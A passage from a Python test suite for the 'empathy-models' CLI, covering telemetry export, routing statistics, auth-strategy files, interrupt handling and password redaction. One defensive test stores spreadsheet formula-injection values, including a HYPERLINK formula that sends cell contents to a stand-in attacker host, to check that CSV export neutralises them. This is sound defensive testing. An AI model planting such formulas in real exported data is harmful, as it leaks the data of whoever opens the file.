"""
The ``empathy-models`` CLI, run in this process (`tests._cli.run_cli`) with
``EMPATHY_HOME`` pointing at a temporary directory; what needs a terminal runs
``python -m empathy_models`` in a subprocess.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import csv
import io
import json
import os
import shlex
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anyio
import pytest

from empathy_models import (
    BreakerPolicy,
    CircuitState,
    LLMCallRecord,
    ModelRegistry,
    ModelTier,
    Outcome,
    state_store_from_url,
    telemetry_from_url,
)
from empathy_models.auth import AuthStrategy, list_auth_strategy_backups, reset_auth_strategy
from empathy_models.backends.sqlite import SQLiteStateStore
from empathy_models.exceptions import AuthFileError
from empathy_models.records import OutcomeReport
from tests._cli import run_cli, run_cli_process


def cli(
    home: Path, *args: str, stdin: str | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """Run the CLI with EMPATHY_HOME=home, stdin not a terminal (in this process)."""
    return run_cli(home, *args, stdin=stdin or "", cwd=cwd)


def test_the_entry_point_runs_as_a_process(home: Path) -> None:
    # every other test runs the CLI in this process; this one as users start it
    result = run_cli_process(home, "demo", "--calls", "20", "--json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["totals"]["requests"] == 20


_INTERRUPTED_AT_START = """
import os, signal, sys
sent = []
def hook(event, args):
    # a real Ctrl-C while the commands are being loaded, before any command runs
    code = args[0] if event == "exec" else None
    if getattr(code, "co_filename", "").endswith(os.path.join("cli", "demo.py")) and not sent:
        sent.append(True)
        os.kill(os.getpid(), signal.SIGINT)
sys.addaudithook(hook)
from empathy_models.cli import main
sys.exit(main(["telemetry", "summary"]))
"""


@pytest.mark.usefixtures("interruptible_children")
def test_ctrl_c_while_the_commands_load_is_one_line_not_a_traceback(home: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-c", _INTERRUPTED_AT_START],
        capture_output=True,
        text=True,
        env={**os.environ, "EMPATHY_HOME": str(home)},
        timeout=110,
        check=False,
    )
    assert (result.returncode, result.stderr) == (130, "empathy-models: interrupted\n")


def _calls_written(db: Path) -> int:
    """The calls the demo has committed to ``db`` so far (0 while it is being set up)."""
    try:
        with contextlib.closing(sqlite3.connect(f"file:{db}?mode=ro", uri=True)) as conn:
            return int(conn.execute("SELECT count(*) FROM llm_calls").fetchone()[0])
    except sqlite3.Error:
        return 0


def _interrupted_demo(home: Path, db: Path, gaps: tuple[float, ...]) -> tuple[int | None, str]:
    """
    ``empathy-models demo`` as users start it, sent a real SIGINT once it has written
    calls, then one more after each of ``gaps`` seconds: its exit code (None: still
    running 20 s later) and stderr.
    """
    env = {k: v for k, v in os.environ.items() if k != "EMPATHY_CONFIG"}
    env["EMPATHY_HOME"] = str(home)
    child = subprocess.Popen(
        [sys.executable, "-m", "empathy_models", "demo", "--calls", "1000000", "--db", str(db)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        deadline = time.monotonic() + 90
        while _calls_written(db) < 200 and child.poll() is None:
            assert time.monotonic() < deadline, "the demo wrote no calls in 90 s"
            time.sleep(0.05)
        child.send_signal(signal.SIGINT)
        for gap in gaps:
            time.sleep(gap)
            child.send_signal(signal.SIGINT)
        try:
            _, err = child.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            return None, ""
        return child.returncode, err
    finally:
        if child.poll() is None:
            child.kill()
            child.communicate()


@pytest.mark.usefixtures("interruptible_children")
@pytest.mark.slow
def test_ctrl_c_pressed_again_while_the_demo_closes_ends_it_with_one_line(
    home: Path, tmp_path: Path
) -> None:
    # asyncio's handler raised KeyboardInterrupt at the second Ctrl-C wherever the loop
    # was (a task's lost wake-up hung the process for ever, or a flusher cancelled in
    # the middle of a batch hung the executor's close), printed tracebacks, or let the
    # interpreter die of the signal while it exited (-2); each run below hit one of
    # these about a time in four (four runs, side by side: the suite's time is CI's)
    gaps = [(0.02,), (0.01,), (0.01, 0.01, 0.01), (0.03,)]
    with concurrent.futures.ThreadPoolExecutor(len(gaps)) as pool:
        ends = list(
            pool.map(
                lambda i: _interrupted_demo(home, tmp_path / f"demo{i}.db", gaps[i]),
                range(len(gaps)),
            )
        )
    assert ends == [(130, "empathy-models: interrupted\n")] * len(gaps)


_MAIN_CALLED_BY_A_PROGRAM = """
import os, signal, sqlite3, sys, threading, time
from empathy_models.cli import main

db = sys.argv[1]

def interrupt():
    # a real Ctrl-C once the demo has written calls
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
                if conn.execute("SELECT count(*) FROM llm_calls").fetchone()[0] >= 50:
                    break
        except sqlite3.Error:
            pass
        time.sleep(0.05)
    os.kill(os.getpid(), signal.SIGINT)

threading.Thread(target=interrupt, daemon=True).start()
code = main(["demo", "--calls", "1000000", "--db", db])
print(code, signal.getsignal(signal.SIGINT) is signal.default_int_handler)
"""


@pytest.mark.usefixtures("interruptible_children")
@pytest.mark.slow
def test_main_called_by_a_program_gives_its_ctrl_c_back(home: Path, tmp_path: Path) -> None:
    # the program that called main(argv) after a Ctrl-C can still be interrupted (and
    # its own child processes too): SIGINT was left ignored for the rest of its life
    result = subprocess.run(
        [sys.executable, "-c", _MAIN_CALLED_BY_A_PROGRAM, str(tmp_path / "demo.db")],
        capture_output=True,
        text=True,
        env={**os.environ, "EMPATHY_HOME": str(home)},
        timeout=110,
        check=False,
    )
    assert (result.stdout.split()[-2:], result.stderr) == (
        ["130", "True"],
        "empathy-models: interrupted\n",
    ), (result.stdout[-500:], result.stderr)


_INTERRUPTED_WHATIF = """
import os, signal, sys
from empathy_models.cli import main

def hook(frame, event, arg):
    # a real Ctrl-C once the simulated requests are being routed
    code = frame.f_code
    if event == "call" and code.co_name == "replay" and "_whatif_" in code.co_filename:
        sys.setprofile(None)
        os.kill(os.getpid(), signal.SIGINT)

sys.setprofile(hook)
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.usefixtures("interruptible_children")
def test_ctrl_c_ends_a_long_whatif_simulation(home: Path, db: Path) -> None:
    # the simulation awaited nothing between its requests: the Ctrl-C was seen only
    # once every replicate had run (hours for these)
    args = ["routing", "whatif", "support", "triage", "--db", str(db), "--requests", "1000000"]
    child = subprocess.Popen(
        [sys.executable, "-c", _INTERRUPTED_WHATIF, *args, "--replicates", "10000"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "EMPATHY_HOME": str(home)},
    )
    try:
        out, err = child.communicate(timeout=60)
    finally:
        if child.poll() is None:
            child.kill()
            child.communicate()
    assert (child.returncode, out, err) == (130, "", "empathy-models: interrupted\n")


def ok(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode == 0, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    return result.stdout


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


# --------------------------------------------------------------------------- a populated database

_RECORDS = 30 + 20 + 25


def _records() -> list[LLMCallRecord]:
    now = datetime.now(UTC) - timedelta(minutes=5)
    out: list[LLMCallRecord] = []

    def add(workflow: str, stage: str, model: str, provider: str, n: int, failures: int) -> None:
        for i in range(n):
            failed = i < failures
            out.append(
                LLMCallRecord(
                    provider=provider,
                    model=model,
                    outcome=Outcome.FAILURE if failed else Outcome.SUCCESS,
                    workflow=workflow,
                    stage=stage,
                    tier=ModelTier.CHEAP,
                    input_tokens=0 if failed else 400,
                    output_tokens=0 if failed else 100,
                    cost_usd=0.0 if failed else 0.0009,
                    latency_ms=20.0 + i,
                    timestamp=now + timedelta(seconds=len(out)),
                    status_code=500 if failed else 200,
                )
            )

    add("docs", "write", "claude-haiku-4-5", "anthropic", 30, 3)
    add("docs", "write", "gpt-4o-mini", "openai", 20, 0)
    add("support", "triage", "claude-haiku-4-5", "anthropic", 25, 10)
    return out


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A SQLite file with 75 call records and one forced-open breaker key."""
    path = tmp_path_factory.mktemp("db") / "calls.db"
    url = "sqlite:///" + str(path)

    async def fill() -> None:
        async with telemetry_from_url(url) as telemetry:
            await telemetry.record_many(_records())
            await telemetry.flush()
        async with state_store_from_url(url) as store:
            await store.force("openai", CircuitState.FORCED_OPEN, reason="maintenance window")

    anyio.run(fill)
    return path


# --------------------------------------------------------------------------- usage


def test_help_lists_every_command(home: Path) -> None:
    out = ok(cli(home, "--help"))
    for command in ("auth", "routing", "breaker", "telemetry", "demo"):
        assert command in out


@pytest.mark.parametrize(
    ("group", "subcommands"),
    [
        ("auth", ("setup", "status", "reset", "restore", "recommend")),
        ("routing", ("stats", "best", "upgrades", "whatif")),
        ("breaker", ("status", "reset", "open")),
        ("telemetry", ("summary", "export")),
        ("demo", ("--calls", "--seed", "--db", "--json")),
    ],
)
def test_each_group_has_help(home: Path, group: str, subcommands: tuple[str, ...]) -> None:
    out = ok(cli(home, group, "--help"))
    for sub in subcommands:
        assert sub in out


@pytest.mark.parametrize(
    "args",
    [
        ("bogus",),
        ("auth", "bogus"),
        ("auth", "setup", "--tier", "gold"),
        ("routing", "stats", "--days", "-1"),
        ("routing", "best", "docs", "write", "--min-success-rate", "1.5"),
        ("breaker", "reset"),
        ("telemetry", "export", "--format", "xml"),
        ("demo", "--calls", "0"),
        ("demo", "--calls", "-5"),
        # a plan of this many calls would be built in memory before the first call
        ("demo", "--calls", "1000001"),
        ("demo", "--calls", "99999999999999999999"),
        ("demo", "--concurrency", "100000"),
        # windows and durations too large for a datetime: usage errors, not tracebacks
        ("routing", "stats", "--days", "1e9"),
        ("routing", "stats", "--days", "inf"),
        ("routing", "best", "docs", "write", "--days", "1e9"),
        ("routing", "upgrades", "--days", "inf"),
        ("telemetry", "summary", "--days", "100000000"),
        ("telemetry", "export", "--format", "csv", "--days", "100000000"),
        ("telemetry", "export", "--format", "csv", "--limit", "100000000000000000000000"),
        ("breaker", "open", "openai", "--for", "1e12"),
        ("breaker", "open", "openai", "--for", "inf"),
    ],
)
def test_bad_arguments_are_usage_errors(home: Path, args: tuple[str, ...]) -> None:
    result = cli(home, *args)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "usage:" in result.stderr
    assert "Traceback" not in result.stderr


LATIN1_CAFE = "caf\udce9"
"""``café`` typed in a Latin-1 terminal, as Python decodes an argument that is not UTF-8."""


@pytest.mark.parametrize(
    "args",
    [
        ("telemetry", "summary", "--workflow", LATIN1_CAFE),
        ("telemetry", "export", "--format", "csv", "--workflow", LATIN1_CAFE),
        ("routing", "stats", LATIN1_CAFE),
        ("routing", "best", LATIN1_CAFE, "write"),
        ("routing", "upgrades", "--stage", LATIN1_CAFE),
        ("breaker", "open", LATIN1_CAFE),
        ("budget", "set", LATIN1_CAFE, "--limit", "1"),
        ("budget", "reset", LATIN1_CAFE),
    ],
)
def test_an_argument_that_is_not_utf8_is_a_one_line_usage_error(
    home: Path, db: Path, args: tuple[str, ...]
) -> None:
    before = db.read_bytes()
    result = cli(home, *args, "--db", str(db), "--json")
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stderr == (
        "empathy-models: error: argument 'caf\\xe9' is not valid UTF-8: type it in UTF-8 "
        "(is the terminal set to another encoding?)\n"
    )
    assert json.loads(result.stdout)["error"]["exit_code"] == 2
    assert db.read_bytes() == before


def test_an_argument_that_is_not_utf8_from_the_terminal_is_refused(home: Path) -> None:
    # the process receives the byte 0xe9, which Python decodes to a lone surrogate
    result = run_cli_process(home, "breaker", "open", LATIN1_CAFE)
    assert result.returncode == 2, result.stderr
    assert "argument 'caf\\xe9' is not valid UTF-8" in result.stderr
    assert "Traceback" not in result.stderr


# --------------------------------------------------------------------------- bad databases


@pytest.mark.parametrize(
    "args",
    [
        ("routing", "stats"),
        ("breaker", "status"),
        ("telemetry", "summary"),
        ("telemetry", "export", "--format", "csv"),
    ],
)
def test_a_missing_database_is_a_clear_error(home: Path, args: tuple[str, ...]) -> None:
    result = cli(home, *args)
    assert result.returncode == 1
    assert "database not found" in result.stderr
    assert str(home / "empathy.db") in result.stderr
    assert "Traceback" not in result.stderr
    assert not (home / "empathy.db").exists()  # a read never creates the file


@pytest.mark.parametrize("db", ["", "  "])
def test_an_empty_db_option_is_refused_as_such(home: Path, tmp_path: Path, db: str) -> None:
    result = cli(home, "telemetry", "summary", "--db", db, cwd=tmp_path)
    assert result.returncode == 2
    assert "--db is empty" in result.stderr and "directory" not in result.stderr


@pytest.mark.parametrize("args", [("telemetry", "summary"), ("breaker", "status")])
def test_a_corrupt_database_is_a_clear_error(tmp_path: Path, args: tuple[str, ...]) -> None:
    bad = tmp_path / "bad.db"
    bad.write_bytes(os.urandom(4096))
    before = bad.read_bytes()
    result = cli(tmp_path / "home", *args, "--db", str(bad))
    assert result.returncode == 1
    assert "error:" in result.stderr and str(bad) in result.stderr
    assert "Traceback" not in result.stderr
    assert bad.read_bytes() == before


def test_a_directory_as_database_is_a_clear_error(tmp_path: Path) -> None:
    result = cli(tmp_path / "home", "telemetry", "summary", "--db", str(tmp_path))
    assert result.returncode == 1
    assert "directory" in result.stderr and "Traceback" not in result.stderr


_SECRET = "s3cr3t-Pw"


@pytest.mark.parametrize(
    "args",
    [
        ("telemetry", "summary"),
        ("routing", "stats"),
        ("breaker", "status"),
        ("budget", "status"),
        ("demo", "--calls", "5", "--yes"),
    ],
)
def test_a_keyword_value_connection_string_is_refused_without_its_password(
    tmp_path: Path, args: tuple[str, ...]
) -> None:
    db = f"host=db password={_SECRET} dbname=calls"
    result = cli(tmp_path / "home", *args, "--db", db, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "keyword/value connection string" in result.stderr
    assert "postgresql://" in result.stderr and "Traceback" not in result.stderr
    assert _SECRET not in result.stderr + result.stdout
    assert not any(p.name.startswith("host=") for p in tmp_path.rglob("*"))  # no such file


def test_an_existing_file_named_like_a_keyword_string_is_read(db: Path, tmp_path: Path) -> None:
    (tmp_path / "user=bob.db").write_bytes(db.read_bytes())
    result = cli(tmp_path / "home", "telemetry", "summary", "--db", "user=bob.db", cwd=tmp_path)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize(
    "db", [f"app:{_SECRET}@db:5432/calls", f"connect_timeout=5 password={_SECRET}"]
)
def test_a_url_without_its_scheme_is_never_echoed_with_its_password(
    tmp_path: Path, db: str
) -> None:
    read = cli(tmp_path / "home", "telemetry", "summary", "--db", db, cwd=tmp_path)
    assert read.returncode == 1 and "database not found" in read.stderr
    assert "***" in read.stderr and "scheme" in read.stderr
    demo = cli(tmp_path / "home", "demo", "--calls", "5", "--db", db, cwd=tmp_path)
    assert demo.returncode == 2 and "scheme" in demo.stderr
    for result in (read, demo):
        assert _SECRET not in result.stderr + result.stdout
    assert not any(_SECRET in p.name for p in tmp_path.rglob("*"))  # no file made of it


def test_a_missing_file_with_an_at_sign_is_named_whole(tmp_path: Path) -> None:
    missing = tmp_path / "me@work.db"
    result = cli(tmp_path / "home", "telemetry", "summary", "--db", str(missing))
    assert result.returncode == 1 and f"database not found: {missing} (" in result.stderr


# --------------------------------------------------------------------------- auth


def test_status_before_setup_says_defaults(home: Path) -> None:
    out = ok(cli(home, "auth", "status"))
    assert "not created yet" in out and "(default)" in out
    # nothing was set up, and the output says how to
    assert "setup_completed           False (no file)" in out
    assert "Not set up yet" in out and "`empathy-models auth setup --tier {free," in out
    data = json.loads(ok(cli(home, "auth", "status", "--json")))
    assert data["configured"] is False and data["setup_completed"] is False
    assert data["config_file"] == str(home / "auth_strategy.json")
    assert data["small_module_threshold"] == 500


def test_setup_writes_a_private_file_and_keeps_custom_fields(home: Path) -> None:
    ok(cli(home, "auth", "setup", "--small", "300", "--multiplier", "3.5"))
    file = home / "auth_strategy.json"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    AuthStrategy.load(file).replace(metadata={"team": "docs"}).save(file)
    ok(cli(home, "auth", "setup", "--tier", "max"))
    s = AuthStrategy.load(file)
    assert s.subscription_tier.value == "max"
    assert s.small_module_threshold == 300  # kept: setup does not rebuild from defaults
    assert s.loc_to_tokens_multiplier == 3.5
    assert dict(s.metadata) == {"team": "docs"}
    data = json.loads(ok(cli(home, "auth", "status", "--json")))
    assert data["configured"] is True and data["subscription_tier"] == "max"
    small = data["recommendations"][0]
    assert (small["category"], small["mode"]) == ("small", "subscription")


def test_setup_rejects_an_invalid_combination_without_touching_the_file(home: Path) -> None:
    ok(cli(home, "auth", "setup", "--small", "300"))
    file = home / "auth_strategy.json"
    before = file.read_bytes()
    result = cli(home, "auth", "setup", "--small", "5000")
    assert result.returncode == 2
    assert "small_module_threshold" in result.stderr
    assert file.read_bytes() == before


def test_reset_without_yes_and_without_a_terminal_refuses(home: Path) -> None:
    ok(cli(home, "auth", "setup", "--small", "123", "--medium", "4567"))
    file = home / "auth_strategy.json"
    before = file.read_bytes()
    result = cli(home, "auth", "reset")
    assert result.returncode != 0
    assert "--yes" in result.stderr
    assert file.read_bytes() == before
    assert sorted(p.name for p in home.iterdir()) == ["auth_strategy.json"]  # no backup either


def test_reset_yes_backs_up_and_restore_brings_back_every_field(home: Path) -> None:
    file = home / "auth_strategy.json"
    custom = AuthStrategy(
        subscription_tier="enterprise",
        default_mode="subscription",
        small_module_threshold=111,
        medium_module_threshold=999,
        loc_to_tokens_multiplier=2.75,
        setup_completed=True,
        prefer_subscription=False,
        cost_optimization=False,
        metadata={"owner": "platform", "budget": 12.5},
    )
    custom.save(file)
    out = ok(cli(home, "auth", "reset", "--yes"))
    assert not file.exists()
    backup_line = next(line for line in out.splitlines() if line.startswith("Backup: "))
    backup = Path(backup_line.removeprefix("Backup: "))
    assert backup.exists() and backup.parent == home
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    ok(cli(home, "auth", "restore"))
    assert AuthStrategy.load(file) == custom


@pytest.mark.parametrize(
    "content",
    ['{"v": 1, "small_module_threshold": "five hundred"}', "{not json", "null"],
    ids=["invalid-value", "not-json", "null"],
)
def test_the_hint_for_a_corrupt_file_resets_that_file(
    home: Path, tmp_path: Path, content: str
) -> None:
    """``status --file F`` on a corrupt F: following its hint moves F away, not the default."""
    ok(cli(home, "auth", "setup", "--tier", "max"))
    default = home / "auth_strategy.json"
    kept = default.read_bytes()
    team = tmp_path / "team dir" / "team.json"
    team.parent.mkdir()
    team.write_text(content)
    failed = cli(home, "auth", "status", "--file", str(team))
    assert failed.returncode == 1
    hint = failed.stderr.split("`")[1]
    assert hint == f"empathy-models auth reset --yes --file '{team}'", failed.stderr
    ok(cli(home, *shlex.split(hint)[1:]))
    assert not team.exists() and default.read_bytes() == kept
    # for the default file the hint needs no --file
    default.write_text(content)
    failed = cli(home, "auth", "status")
    assert "`empathy-models auth reset --yes` keeps a backup" in failed.stderr


def test_reset_with_nothing_to_reset_is_fine(home: Path) -> None:
    assert "Nothing to reset" in ok(cli(home, "auth", "reset", "--yes"))


def test_reset_of_a_dangling_symlink_fails_as_the_api_does_and_keeps_the_link(
    home: Path, tmp_path: Path
) -> None:
    home.mkdir(parents=True)
    link, missing = home / "auth_strategy.json", tmp_path / "shared" / "settings.json"
    link.symlink_to(missing)
    with pytest.raises(AuthFileError) as api:
        reset_auth_strategy(link)
    for args in (("--yes",), ("--yes", "--file", str(link))):
        result = cli(home, "auth", "reset", *args)
        assert (result.returncode, result.stdout) == (1, ""), result
        assert result.stderr == f"empathy-models: error: {api.value}\n"
        assert link.is_symlink() and not missing.exists()  # nothing written through it
        assert list_auth_strategy_backups(link) == []


def test_restore_without_backup_is_a_clear_error(home: Path) -> None:
    result = cli(home, "auth", "restore")
    assert result.returncode == 1
    assert "no backup" in result.stderr and "Traceback" not in result.stderr


def test_a_corrupt_strategy_file_is_reported_not_replaced(home: Path) -> None:
    home.mkdir(parents=True)
    file = home / "auth_strategy.json"
    file.write_text("{broken")
    for args in (("auth", "status"), ("auth", "setup", "--tier", "max")):
        result = cli(home, *args)
        assert result.returncode == 1
        assert str(file) in result.stderr and "Traceback" not in result.stderr
    assert file.read_text() == "{broken"


def test_file_option_targets_another_strategy_file(home: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.json"
    ok(cli(home, "auth", "setup", "--small", "42", "--file", str(other)))
    assert AuthStrategy.load(other).small_module_threshold == 42
    assert not (home / "auth_strategy.json").exists()


def test_the_undo_hint_of_a_reset_runs_as_printed(home: Path, tmp_path: Path) -> None:
    other = tmp_path / "my strategies" / "team's.json"
    ok(cli(home, "auth", "setup", "--small", "42", "--file", str(other)))
    out = ok(cli(home, "auth", "reset", "--yes", "--file", str(other)))
    undo = next(line for line in out.splitlines() if line.startswith("Undo with: "))
    words = shlex.split(undo.removeprefix("Undo with: "))
    assert words[:3] == ["empathy-models", "auth", "restore"], undo
    ok(cli(home, *words[1:]))
    assert AuthStrategy.load(other).small_module_threshold == 42


def test_recommend_explains_size_mode_and_cost(home: Path, tmp_path: Path) -> None:
    ok(cli(home, "auth", "setup", "--tier", "max", "--small", "50"))
    source = tmp_path / "mod.py"
    source.write_text("".join(f"def f{i}():\n    return {i}\n" for i in range(100)))
    out = ok(cli(home, "auth", "recommend", str(source)))
    assert "medium" in out and "subscription" in out
    data = json.loads(ok(cli(home, "auth", "recommend", str(source), "--json")))
    assert data["lines"]["code_lines"] == 200
    assert data["size_category"] == "medium"
    assert data["recommended_mode"] == "subscription"
    assert data["estimate"]["mode"] == "subscription"
    assert data["estimate"]["api_cost"] > 0


def test_recommend_warns_about_generated_files(home: Path, tmp_path: Path) -> None:
    source = tmp_path / "gen_pb2.py"
    source.write_text(
        "# Generated by the protocol buffer compiler.  DO NOT EDIT!\n" + "x = 1\n" * 10
    )
    result = cli(home, "auth", "recommend", str(source))
    assert result.returncode == 0, result.stderr
    # on stderr, as every warning (stdout holds the report, piped or saved)
    assert "warning: looks generated" in result.stderr
    assert "warning" not in result.stdout and "Recommendation for" in result.stdout


def test_recommend_a_missing_file_is_a_clear_error(home: Path, tmp_path: Path) -> None:
    result = cli(home, "auth", "recommend", str(tmp_path / "nope.py"))
    assert result.returncode == 1
    assert "no such file" in result.stderr and "Traceback" not in result.stderr


# --------------------------------------------------------------------------- telemetry


def test_telemetry_summary_table_and_json(home: Path, db: Path) -> None:
    out = ok(cli(home, "telemetry", "summary", "--db", str(db)))
    assert "claude-haiku-4-5" in out and "gpt-4o-mini" in out
    assert f"total: {_RECORDS} calls" in out
    data = json.loads(ok(cli(home, "telemetry", "summary", "--db", str(db), "--json")))
    rows = {(r["workflow"], r["stage"], r["model"]): r for r in data["models"]}
    haiku = rows[("docs", "write", "claude-haiku-4-5")]
    assert (haiku["calls"], haiku["successes"]) == (30, 27)
    assert haiku["success_rate_lower"] < 0.9 < haiku["success_rate_upper"]
    only = json.loads(
        ok(cli(home, "telemetry", "summary", "--db", str(db), "--json", "--workflow", "support"))
    )
    assert {r["workflow"] for r in only["models"]} == {"support"}


def test_telemetry_export_csv_and_jsonl(home: Path, db: Path, tmp_path: Path) -> None:
    out = ok(cli(home, "telemetry", "export", "--format", "csv", "--db", f"sqlite:///{db}"))
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == _RECORDS
    assert {"provider", "model", "outcome", "cost_usd", "latency_ms"} <= set(rows[0])
    assert rows[0]["timestamp"] <= rows[-1]["timestamp"]  # oldest first
    target = tmp_path / "calls.jsonl"
    ok(cli(home, "telemetry", "export", "--format", "jsonl", "--db", str(db), "-o", str(target)))
    lines = target.read_text().splitlines()
    assert len(lines) == _RECORDS
    assert LLMCallRecord.from_dict(json.loads(lines[0])).workflow in {"docs", "support"}
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_telemetry_export_csv_cells_start_no_spreadsheet_formula(
    home: Path, tmp_path: Path
) -> None:
    # an answer, a prompt or a provider's error text is not the exporter's to trust: a
    # cell starting with =, +, -, @, a tab or a carriage return is a formula to a
    # spreadsheet opening the CSV, so it is written after a quote (JSON lines as stored)
    path = tmp_path / "odd.db"
    record = LLMCallRecord(
        provider="anthropic",
        model="claude-haiku-4-5",
        outcome="failure",
        workflow="+cmd",
        stage="-stage",
        error_message='=HYPERLINK("https://evil.example/?"&A1,"details")',
        prompt_text="@SUM(1+1)",
        response_text="\t=1+1",
        error_type="ServerError",
        latency_ms=12.5,
    )

    async def fill() -> None:
        async with telemetry_from_url(f"sqlite:///{path}") as telemetry:
            await telemetry.record(record)
            await telemetry.flush()

    anyio.run(fill)
    out = ok(cli(home, "telemetry", "export", "--format", "csv", "--db", str(path)))
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["workflow"] == "'+cmd"
    assert row["stage"] == "'-stage"
    assert row["error_message"] == "'" + str(record.error_message)
    assert row["prompt_text"] == "'@SUM(1+1)"
    assert row["response_text"] == "'\t=1+1"
    assert (row["error_type"], row["latency_ms"], row["model"]) == (
        "ServerError",
        "12.5",
        "claude-haiku-4-5",
    )
    line = ok(cli(home, "telemetry", "export", "--format", "jsonl", "--db", str(path)))
    assert LLMCallRecord.from_dict(json.loads(line)) == record


def test_telemetry_export_says_when_its_limit_left_older_records_out(
    home: Path, db: Path, tmp_path: Path
) -> None:
    # the limit (1,000,000 unless given) was applied silently: a larger store's export
    # lost its oldest records without a word, though the command "writes every record"
    args = ("telemetry", "export", "--format", "jsonl", "--db", str(db))
    cut = cli(home, *args, "--limit", "5")
    assert cut.returncode == 0, cut.stderr
    assert len(cut.stdout.splitlines()) == 5
    assert "only the newest 5 records: older ones were left out (--limit 5)" in cut.stderr
    whole = cli(home, *args, "--limit", str(_RECORDS), "-o", str(tmp_path / "all.jsonl"))
    assert whole.returncode == 0, whole.stderr
    assert "left out" not in whole.stderr
    assert len((tmp_path / "all.jsonl").read_text().splitlines()) == _RECORDS


def test_telemetry_export_onto_an_existing_file_makes_it_private(
    home: Path, db: Path, tmp_path: Path
) -> None:
    target = tmp_path / "calls.csv"
    target.write_text("an older export\n")
    target.chmod(0o644)
    ok(cli(home, "telemetry", "export", "--format", "csv", "--db", str(db), "-o", str(target)))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert len(target.read_text().splitlines()) == _RECORDS + 1


def test_telemetry_export_to_dash_writes_to_stdout(home: Path, db: Path, tmp_path: Path) -> None:
    args = ("telemetry", "export", "--format", "jsonl", "--db", str(db), "-o", "-")
    assert len(ok(cli(home, *args, cwd=tmp_path)).splitlines()) == _RECORDS
    assert not (tmp_path / "-").exists()
    # "./-" is the file named "-", as for other commands (pathlib reads it as "-")
    result = cli(home, *args[:-1], "./-", cwd=tmp_path)
    assert ok(result) == "" and result.stderr.endswith(" to ./-\n")
    assert len((tmp_path / "-").read_text().splitlines()) == _RECORDS
    odd = tmp_path / "calls\nexport.csv"  # a path is shown quoted when it needs it
    result = cli(home, "telemetry", "export", "--format", "csv", "--db", str(db), "-o", str(odd))
    assert f"to {str(odd)!r}" in result.stderr


def test_telemetry_export_to_a_terminal_draws_no_progress_bar_among_the_records(
    home: Path, db: Path
) -> None:
    """
    stdout and stderr on one terminal: the records are the output, with no progress bar
    drawn into them (``export [....] 0/75{"v":1,...`` before, a line no parser reads).
    """
    import pty

    export = ("telemetry", "export", "--format", "jsonl", "--db", str(db))
    master, slave = pty.openpty()
    chunks: list[bytes] = []
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "empathy_models", *export],
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            env={**os.environ, "EMPATHY_HOME": str(home)},
        )
        os.close(slave)
        slave = -1
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the process has ended and closed the terminal
                break
            if not data:
                break
            chunks.append(data)
        assert proc.wait(timeout=60) == 0
    finally:
        if slave >= 0:
            os.close(slave)
        os.close(master)
    shown = b"".join(chunks).decode().replace("\r\n", "\n")
    assert "export [" not in shown, shown[:300]
    lines = shown.splitlines()
    assert len(lines) == _RECORDS
    assert all(json.loads(line)["v"] == 1 for line in lines)


@pytest.mark.parametrize("output", ["copy.db", "alias.db", "copy.db-wal"])
def test_telemetry_export_onto_the_database_itself_is_refused(
    home: Path, db: Path, tmp_path: Path, output: str
) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    (tmp_path / "copy.db-wal").write_bytes(b"")
    (tmp_path / "alias.db").symlink_to(copy)
    before = copy.read_bytes()
    args = ("telemetry", "export", "--format", "csv", "--db", "copy.db", "-o", output)
    result = cli(home, *args, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "is the database being exported" in result.stderr and result.stdout == ""
    assert copy.read_bytes() == before  # not truncated
    assert (
        len(ok(cli(home, "telemetry", "export", "--format", "csv", "--db", str(copy))).splitlines())
        == _RECORDS + 1
    )


# --------------------------------------------------------------------------- routing


def test_routing_stats(home: Path, db: Path) -> None:
    out = ok(cli(home, "routing", "stats", "--db", str(db)))
    assert "docs" in out and "support" in out and "95% bounds" in out
    data = json.loads(ok(cli(home, "routing", "stats", "docs", "--db", str(db), "--json")))
    (stats,) = data["workflows"]
    assert stats["total_calls"] == 50
    assert stats["models_used"] == ["claude-haiku-4-5", "gpt-4o-mini"]
    assert stats["performance_by_model"]["gpt-4o-mini"]["success_rate"] == 1.0


def test_routing_stats_of_a_stage_without_calls_claims_no_success_rate(
    home: Path, db: Path
) -> None:
    out = ok(cli(home, "routing", "stats", "docs", "--stage", "nosuch", "--db", str(db)))
    assert "0 calls" in out and "no calls recorded for docs/nosuch" in out
    assert "0.0%" not in out  # no calls: no success rate, not a 0% one
    assert "success -" in out


def test_routing_stats_of_a_stage_lists_only_the_workflows_that_have_it(
    home: Path, db: Path
) -> None:
